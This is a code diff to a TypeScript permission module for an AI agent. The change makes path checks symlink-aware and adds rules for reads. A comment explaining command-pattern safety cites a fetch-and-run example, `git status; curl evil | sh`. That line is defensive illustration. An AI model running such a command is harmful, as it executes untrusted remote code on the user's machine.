@@ -6,6 +6,14 @@
  * is the safe side). Modes: `ask` asks, `accept-edits` allows edit/delete/move calls whose
  * paths are ALL inside the roots, `auto` allows everything.
  *
+ * Paths are judged as named AND as resolved (`realPaths`, when the broker filled them in): a
+ * symlink in the workspace pointing outside is outside, a link named `notes` pointing at `.env`
+ * is sensitive, an allow or ask rule's glob must hold for both forms, a deny rule's for either.
+ *
+ * Effects Talaria performs for the agent (`subject.effect`): a write follows the mode like an
+ * edit, a terminal like an execute call, and a read inside the roots is allowed in every mode —
+ * unless a rule says otherwise or the file is sensitive.
+ *
  * Command patterns are glob-like over the whole (trimmed) command line: `*` any run, `?` one
  * character, `\x` a literal x, whitespace matches any whitespace. So that `git *` cannot allow
  * `git status; curl evil | sh`, wildcards in allow/ask rules never cross shell control
@@ -47,12 +55,17 @@ export function evaluate(subject: PermissionSubject, config: PolicyConfig): Poli
 }
 
 function modeDefault(subject: PermissionSubject, mode: PermissionMode): PolicyResult {
+  if (subject.effect === 'fs.read') {
+    const outside = outsideRoots(subject);
+    if (outside) return { decision: 'ask', reason: `read of ${outside}, outside the session roots` };
+    return { decision: 'allow', reason: 'reads inside the session roots are allowed' };
+  }
   if (mode === 'auto') return { decision: 'allow', reason: 'auto mode allows everything' };
   if (mode === 'accept-edits') {
     const kind = subject.toolKind;
     if (kind && EDIT_KINDS.includes(kind)) {
       if (subject.paths.length === 0) return { decision: 'ask', reason: `accept-edits: ${kind} with no known path` };
-      const outside = subject.paths.find((p) => !isInsideRoots(p, subject.roots));
+      const outside = outsideRoots(subject);
       if (outside) return { decision: 'ask', reason: `accept-edits: ${outside} is outside the session roots` };
       return { decision: 'allow', reason: `accept-edits allows ${kind} inside the session roots` };
     }
@@ -61,10 +74,26 @@ function modeDefault(subject: PermissionSubject, mode: PermissionMode): PolicyRe
   return { decision: 'ask', reason: 'ask mode' };
 }
 
-/** First sensitive path among the subject's paths and the words of its command, if any. */
+/**
+ * A path (as named, or as resolved when known) outside the roots. Relative paths (no root to
+ * resolve them against) count as outside.
+ */
+function outsideRoots(subject: PermissionSubject): string | undefined {
+  const named = subject.paths.find((p) => !isInsideRoots(p, subject.roots));
+  if (named) return named;
+  const real = subject.realPaths;
+  if (!real) return undefined;
+  const realRoots = subject.realRoots ?? subject.roots;
+  const i = real.findIndex((p) => !isInsideRoots(p, realRoots));
+  return i < 0 ? undefined : `${subject.paths[i] ?? real[i]} (really ${real[i]})`;
+}
+
+/** First sensitive path among the subject's paths (named or resolved) and the words of its command. */
 function sensitiveTouched(subject: PermissionSubject): string | undefined {
   const hit = subject.paths.find(isSensitivePath);
   if (hit) return hit;
+  const i = subject.realPaths?.findIndex(isSensitivePath) ?? -1;
+  if (i >= 0) return `${subject.paths[i] ?? ''} (really ${subject.realPaths![i]})`;
   if (!subject.command) return undefined;
   for (const c of simpleCommands(subject.command)) {
     for (const w of [...c.words.slice(1), ...c.redirects.map((r) => r.target)]) {
@@ -84,11 +113,20 @@ export function ruleMatches(rule: PermissionRule, subject: PermissionSubject): b
     const kinds = Array.isArray(rule.toolKind) ? rule.toolKind : [rule.toolKind];
     if (!subject.toolKind || !kinds.includes(subject.toolKind)) return false;
   }
-  if (rule.pathGlob !== undefined && !globMatchesAll(rule.pathGlob, subject.paths, subject.roots)) return false;
+  if (rule.pathGlob !== undefined && !pathGlobMatches(rule, subject)) return false;
   if (rule.command !== undefined) {
     if (!subject.command || !commandMatches(rule.command, subject.command, rule.decision)) return false;
   }
   return true;
+}
+
+/** A deny glob matches the paths as named OR as resolved; any other rule needs both. */
+function pathGlobMatches(rule: PermissionRule, subject: PermissionSubject): boolean {
+  const glob = rule.pathGlob!;
+  const named = globMatchesAll(glob, subject.paths, subject.roots);
+  if (!subject.realPaths) return named;
+  const real = globMatchesAll(glob, subject.realPaths, subject.realRoots ?? subject.roots);
+  return rule.decision === 'deny' ? named || real : named && real;
 }
 
 export function isInsideRoots(p: string, roots: string[]): boolean {
@@ -120,7 +158,7 @@ export function globMatchesAll(glob: string, paths: string[], roots: string[]): 
   return paths.every((p) => roots.some((r) => isInside(p, r) && m(relative(r, p) || '.')));
 }
 
-const SAFE_RUN = "[^;&|\\n\\r`$()<>]";
+const SAFE_RUN = '[^;&|\\n\\r`$()<>]';
 const patternCache = new Map<string, RegExp>();
 
 function compilePattern(pattern: string, crossControl: boolean): RegExp {
